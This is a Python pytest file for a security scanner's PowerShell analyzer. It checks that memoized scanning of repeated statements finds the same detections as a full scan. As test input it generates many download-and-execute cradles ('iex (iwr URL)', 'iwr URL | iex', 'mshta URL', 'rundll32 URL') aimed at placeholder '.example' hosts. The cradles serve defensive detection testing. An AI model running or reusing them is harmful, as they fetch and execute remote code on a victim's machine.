"""The reads of a PowerShell statement replayed on statements of its shape (powershell_reads): a
read skipped or read once for a run finds what it would find on each statement."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from unittest import mock

import pytest

from skillscan.analyzers.delivery import DeliveryCatalog
from skillscan.analyzers.host_policy import HostPolicy
from skillscan.analyzers.treesitter import powershell, powershell_reads
from skillscan.analyzers.treesitter.powershell import scan_powershell
from skillscan.analyzers.treesitter.powershell_reads import ReadPlan, _always_found, _required
from skillscan.analyzers.treesitter.powershell_text import STR_ASSIGN, VAR_ASSIGN, VAR_REF
from skillscan.analyzers.treesitter.scan_shapes import ShapeMemo
from skillscan.analyzers.treesitter.shell_text import Detection
from tests.conftest import counting_replays

POLICY = HostPolicy(DeliveryCatalog.load())


@contextmanager
def _plans() -> Iterator[list[ReadPlan]]:
    made: list[ReadPlan] = []
    real = powershell_reads.read_plan

    def spy(*args: object) -> ReadPlan | None:
        plan = real(*args)  # type: ignore[arg-type]
        if plan is not None:
            made.append(plan)
        return plan

    with mock.patch.object(powershell, "read_plan", spy):
        yield made


def _in_full(src: str) -> list[Detection]:
    with mock.patch.object(ShapeMemo, "replay", lambda *args, **kwargs: (0, 0)):
        return scan_powershell(src, POLICY)


def _flood(template: str, n: int, odd: dict[int, str]) -> str:
    return "".join(template.format(u=odd.get(k, f"https://x{k}.example/a")) + "\n" for k in range(n))


@pytest.mark.parametrize(
    "template", ["iex (iwr {u})", "iex (iwr '{u}')", "iwr {u} | iex", 'iwr "{u}" | iex', "iex (iwr {u}?v=1)"]
)
def test_cradles_of_one_shape_read_nothing_again(template: str) -> None:
    """What every read of these finds is fixed by the text around the URL: a word there, or a `$`
    no statement of the shape holds."""
    src = _flood(template, 100, {})
    with _plans() as plans:
        assert scan_powershell(src, POLICY) == _in_full(src)
    assert plans
    assert all(not plan._each and not plan._joined for plan in plans)


@pytest.mark.parametrize(
    ("template", "url"),
    [
        # words a read found in no statement so far, in a later URL: evaluated and encoded
        ("mshta {u}", "https://x.example/iex/frombase64string"),
        ("rundll32 {u}", "https://x.example/invoke-expression/frombase64string"),
        # in a string they are data in the code, not in the text
        ("mshta '{u}'", "https://x.example/iex/frombase64string"),
        ('mshta "{u}"', "https://x.example/iex/frombase64string"),
        # ... and in the first statements, not in the later ones
        ("mshta {u}", ""),
    ],
)
@pytest.mark.parametrize("at", [3, 150, 290])
def test_a_word_in_one_url_of_a_long_run_is_read(template: str, url: str, at: int) -> None:
    odd = {at: url} if url else {k: f"https://x{k}.example/iex/frombase64string" for k in range(at)}
    src = _flood(template, 300, odd)
    assert scan_powershell(src, POLICY) == _in_full(src)


def test_texts_read_once_for_a_run_are_read_one_by_one_when_the_joined_text_has_a_match() -> None:
    src = _flood("mshta {u}", 300, {200: "https://x.example/iex/frombase64string"})
    with _plans() as plans, counting_replays() as replayed:
        found = scan_powershell(src, POLICY)
    assert replayed[0] > 200
    assert any(plan._joined for plan in plans)  # the words are read on the run at once
    assert found == _in_full(src)
    # the statement whose URL holds the words is analysed: an encoded script evaluated
    assert [d.rule_id for d in found if d.line == 201] == ["encoded-payload-pipe-shell"]


def test_characters_every_match_holds() -> None:
    assert "$" in _required(STR_ASSIGN) and "$" in _required(VAR_ASSIGN) and "$" in _required(VAR_REF)
    assert _required(re.compile(r"a(?:\$)?b")) == frozenset()  # optional
    assert _required(re.compile(r"(?:\$|#)z")) == frozenset()  # one of two
    assert _required(re.compile(r"\$*z")) == frozenset()
    assert _required(re.compile(r"(?:x\$){2,3}")) == {"$"}
    assert _required(re.compile(r"(?i)ab")) == frozenset()  # letters may be of either case
    assert _required(re.compile(rb"\$=")) == {"$", "="}


@pytest.mark.parametrize(
    ("pattern", "items", "expected"),
    [
        (r"\biwr\b", ["iwr ", (0, False)], True),
        ("iwr", ["iwr", (0, False)], False),  # a `\b` could read the slot's first character
        (r"\biwr\b", [(0, False), " iwr"], True),  # at the text's end
        ("iwr", [(0, False), "iwr x"], False),  # a `\b` could read the slot's last character
        (r"iwr\s*$", ["iwr ", (0, False), " iwr"], True),
        ("iwr |iwr$", ["iwr ", (0, False), " x"], False),  # a `$` reads the text's end
        (r"^iwr", ["iwr ", (0, False)], True),
    ],
)
def test_a_match_is_found_in_every_statement_only_away_from_the_slots(
    pattern: str, items: list[str | tuple[int, bool]], expected: bool
) -> None:
    slots = [b"https://x.example/a"]
    text = "".join(i if isinstance(i, str) else slots[i[0]].decode() for i in items)
    m = re.search(pattern, text)
    assert m is not None
    assert _always_found(m, items, slots, pattern) is expected
